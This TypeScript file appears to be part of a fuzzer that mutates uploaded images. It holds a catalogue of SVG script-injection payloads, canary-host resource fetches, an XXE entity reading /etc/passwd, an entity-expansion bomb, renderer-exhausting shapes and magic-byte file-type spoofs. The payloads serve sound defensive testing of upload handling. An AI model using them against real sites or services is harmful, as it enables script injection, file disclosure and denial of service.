/** Spoils pictures: drawings that act, and files that are not what their name says. */
import type { Mutator } from './mutation.ts'
import { CANARY, FLAG, PROPERTY } from './payloads.ts'

const script = `window.${FLAG}=1`
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${inside}<rect width="9" height="9"/></svg>`

const insides: readonly string[] = [
  `<script>${script}</script>`,
  `<script xlink:href="http://${CANARY}.example/x.js"/>`,
  `<SCRIPT>${script}</SCRIPT>`,
  `<s:script xmlns:s="http://www.w3.org/2000/svg">${script}</s:script>`,
  `<script><![CDATA[${script}]]></script>`,
  `<g onload="${script}"/>`,
  `<animate onbegin="${script}" attributeName="x" dur="1s"/>`,
  `<set attributeName="onload" to="${script}"/>`,
  `<a xlink:href="javascript:${script}"><text y="5">字</text></a>`,
  `<a href="&#106;avascript:${script}"><text y="5">字</text></a>`,
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${script}"/></body></foreignObject>`,
  `<image href="http://${CANARY}.example/x.png" width="9" height="9"/>`,
  `<image xlink:href="file:///etc/passwd" width="9" height="9"/>`,
  `<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${script}'/&gt;#x"/>`,
  `<style>@import url(http://${CANARY}.example/x.css);:root{${PROPERTY}:1}</style>`,
  `<rect style="fill:url(http://${CANARY}.example/x.svg#a)" width="1" height="1"/>`,
  `<handler type="text/javascript">${script}</handler>`,
  `<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${script}"/>`,
]

const wholes: readonly string[] = [
  '',
  ' ',
  '<svg',
  '<html><script>1</script></html>',
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<text>&c;&c;</text>')}`,
  `<?xml-stylesheet href="http://${CANARY}.example/x.css"?>${svg('')}`,
  `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-')}`,
  svg('', `onload="${script}"`),
  svg('', 'width="999999" height="999999"'),
  svg('', 'width="-1" height="nan"'),
  svg('<g>'.repeat(9000)),
  svg(`<path d="M0 0${'L1 1'.repeat(30_000)}"/>`),
  svg('<use href="#a"/><g id="a"><use href="#a"/></g>'),
]

export const svgMutators: readonly Mutator<string>[] = [
  {
    name: 'svg-inside',
    weight: 6,
    apply(text, random) {
      const ends = [...text.matchAll(/>/g)].map(({ index }) => index + 1)
      const at = ends.length > 0 ? random.pick(ends) : 0
      return text.slice(0, at) + random.pick(insides) + text.slice(at)
    },
  },
  { name: 'svg-whole', weight: 4, apply: (_, random) => random.pick(wholes) },
  {
    name: 'svg-attribute',
    weight: 3,
    apply: (text, random) =>
      text.replace(
        /<(\w+)/,
        `<$1 ${random.pick([`onload="${script}"`, `onclick='${script}'`, `OnLoad=${script}`, `style="${PROPERTY}:1"`])}`,
      ),
  },
]

/** Magic bytes of other formats: an extension that lies. */
export const mediaMutators: readonly Mutator<Buffer>[] = [
  { name: 'media-html', weight: 2, apply: () => Buffer.from(`<!doctype html><script>${script}</script>`) },
  { name: 'media-svg', weight: 2, apply: () => Buffer.from(svg(`<script>${script}</script>`)) },
  ...Object.entries({
    png: '89504e470d0a1a0a',
    gif: '474946383961',
    jpg: 'ffd8ffe0',
    pdf: '255044462d312e34',
    zip: '504b0304',
    exe: '4d5a9000',
    webp: '52494646ffffffff57454250',
    mp4: '00000018667479706d703432',
  }).map(([format, magic]): Mutator<Buffer> => ({
    name: `media-${format}`,
    apply: (bytes) => Buffer.concat([Buffer.from(magic, 'hex'), bytes.subarray(0, 2000)]),
  })),
]
